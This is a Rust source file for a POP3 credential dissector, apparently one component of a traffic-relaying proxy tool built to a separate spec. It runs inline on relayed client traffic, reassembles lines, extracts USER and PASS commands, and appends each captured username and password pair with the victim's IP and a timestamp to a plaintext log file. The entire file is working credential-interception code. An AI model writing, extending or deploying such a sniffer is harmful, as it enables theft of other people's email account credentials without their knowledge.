/// POP3 credential dissector (component D).
///
/// Process-global reassembly state is intentional, not an oversight: only
/// one inline dissection context exists because the relay invokes this
/// synchronously on the client→remote path of whichever connection is
/// currently being pumped (SPEC_FULL.md §4.4, §9).
use std::fs::OpenOptions;
use std::io::Write;
use std::sync::Mutex;

use chrono::Local;
use once_cell::sync::Lazy;

const BUFFER_CAPACITY: usize = 1024;

struct DissectorState {
    buffer: Vec<u8>,
    user: Option<String>,
    pass: Option<String>,
}

impl DissectorState {
    fn new() -> Self {
        Self {
            buffer: Vec::with_capacity(BUFFER_CAPACITY),
            user: None,
            pass: None,
        }
    }

    fn reset(&mut self) {
        self.buffer.clear();
        self.user = None;
        self.pass = None;
    }
}

static STATE: Lazy<Mutex<DissectorState>> = Lazy::new(|| Mutex::new(DissectorState::new()));

/// Clears all capture state. Called at the start of every new RELAYING
/// connection, per SPEC_FULL.md §4.4.
pub fn reset() {
    STATE.lock().expect("pop3 dissector mutex poisoned").reset();
}

/// Feeds a chunk of client→remote bytes through the line-reassembly buffer,
/// extracting `USER`/`PASS` credential pairs and logging them to
/// `log_path` once both halves of a pair have been captured.
pub fn process(data: &[u8], source_ip: &str, log_path: &std::path::Path) {
    if data.is_empty() {
        return;
    }

    let mut state = STATE.lock().expect("pop3 dissector mutex poisoned");

    if state.buffer.len() + data.len() > BUFFER_CAPACITY {
        state.buffer.clear();
    }
    state.buffer.extend_from_slice(data);

    // Process complete lines, keeping any trailing partial line buffered.
    let mut consumed_through = 0;
    while let Some(newline_at) = state.buffer[consumed_through..].iter().position(|&b| b == b'\n') {
        let line_end = consumed_through + newline_at;
        let line = state.buffer[consumed_through..line_end].to_vec();
        consumed_through = line_end + 1;

        let line = trim_ascii(&line);
        if line.is_empty() {
            continue;
        }

        if state.user.is_none() {
            if let Some(value) = strip_command(&line, b"USER ") {
                state.user = Some(value);
            }
        }
        if state.pass.is_none() {
            if let Some(value) = strip_command(&line, b"PASS ") {
                state.pass = Some(value);
            }
        }
    }

    state.buffer.drain(0..consumed_through);

    if let (Some(user), Some(pass)) = (state.user.clone(), state.pass.clone()) {
        log_credentials(&user, &pass, source_ip, log_path);
        state.user = None;
        state.pass = None;
    }
}

/// Trims leading/trailing ASCII whitespace and `\r`, matching the source's
/// `trim()` helper.
fn trim_ascii(line: &[u8]) -> String {
    let start = line.iter().position(|&b| !b.is_ascii_whitespace()).unwrap_or(line.len());
    let end = line.iter().rposition(|&b| !b.is_ascii_whitespace()).map(|i| i + 1).unwrap_or(start);
    String::from_utf8_lossy(&line[start..end]).into_owned()
}

/// Case-insensitive prefix match on `command` (e.g. `"USER "`), returning
/// the trimmed remainder if it matches.
fn strip_command(line: &str, command: &[u8]) -> Option<String> {
    if line.len() < command.len() {
        return None;
    }
    let prefix = &line.as_bytes()[..command.len()];
    if prefix.eq_ignore_ascii_case(command) {
        Some(line[command.len()..].trim().to_string())
    } else {
        None
    }
}

fn log_credentials(user: &str, pass: &str, source_ip: &str, log_path: &std::path::Path) {
    let timestamp = Local::now().format("%Y-%m-%d %H:%M:%S");
    let line = format!(
        "[{timestamp}] POP3 credentials captured from {source_ip} -> USER: {user} | PASS: {pass}\n"
    );

    match OpenOptions::new().create(true).append(true).open(log_path) {
        Ok(mut file) => {
            if let Err(err) = file.write_all(line.as_bytes()) {
                log::warn!("could not write pop3 credential log: {err}");
            }
            let _ = file.flush();
        }
        Err(err) => {
            log::warn!("could not open pop3 credential log {}: {err}", log_path.display());
        }
    }
}
